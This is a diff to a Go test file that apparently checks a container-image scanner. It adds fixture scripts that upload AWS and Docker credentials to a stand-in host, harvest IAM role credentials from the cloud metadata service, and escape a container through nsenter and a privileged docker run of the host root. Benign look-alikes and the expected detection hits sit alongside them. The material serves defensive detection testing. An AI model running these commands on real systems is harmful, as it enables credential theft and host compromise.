@@ -316,6 +316,29 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "persistence-point", path: "/home/app/.bashrc", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/bash.bashrc", layer: 1})
 
+	// Scripts doing an intruder's work: credentials uploaded with a form
+	// and with --data @file, the instance role's credentials asked of the
+	// metadata service, nsenter into pid 1 and a privileged docker run of
+	// the host's root; a health probe of the metadata service, an upload of
+	// a report, nsenter into a named pid's network namespace, a docker run
+	// mounting a data directory and the same commands in documentation are
+	// not.
+	add("test/t-attack", nil, nil, one(
+		ent{name: "opt/.x/grab.sh", mode: 0o755, body: "#!/bin/sh\ncurl -s -F \"f=@$HOME/.aws/credentials\" http://198.51.100.3/up\n" +
+			"wget -q --post-file=/root/.docker/config.json http://198.51.100.3/d\n"},
+		ent{name: "usr/local/lib/node/role.sh", mode: 0o755, body: "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n" +
+			"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/.r\n"},
+		ent{name: "srv/tools/hop", mode: 0o755, body: "#!/bin/bash\nnsenter --target 1 --mount --uts --ipc --net --pid -- bash -c \"$1\"\n" +
+			"docker -H unix:///var/run/docker.sock run --rm --privileged -v /:/mnt alpine chroot /mnt sh -c 'echo ok'\n"},
+		ent{name: "srv/tools/ok.sh", mode: 0o755, body: "#!/bin/sh\ncurl -sf http://169.254.169.254/latest/meta-data/instance-id\n" +
+			"curl -F \"report=@/var/log/app/report.json\" https://reports.example.com/\nnsenter -t \"$PID\" -n ip addr\n" +
+			"docker run --rm -v /srv/data:/data busybox ls /data\n"},
+		ent{name: "usr/share/doc/hop/README", body: "nsenter --target 1 --mount --pid -- sh\ncurl -F f=@~/.aws/credentials http://x/\n"}),
+		hit{rule: "script-uploads-credentials", path: "/opt/.x/grab.sh", layer: 1},
+		hit{rule: "script-reads-cloud-credentials", path: "/usr/local/lib/node/role.sh", layer: 1},
+		hit{rule: "script-escapes-container", path: "/srv/tools/hop", layer: 1},
+		hit{rule: "executable-in-temp-or-hidden-dir", path: "/opt/.x/grab.sh", layer: 1})
+
 	// Labels runlabel runs on the host: privileged with the host's root,
 	// and one fetching code; an ordinary RUN label and other labels naming
 	// the same flags are not.
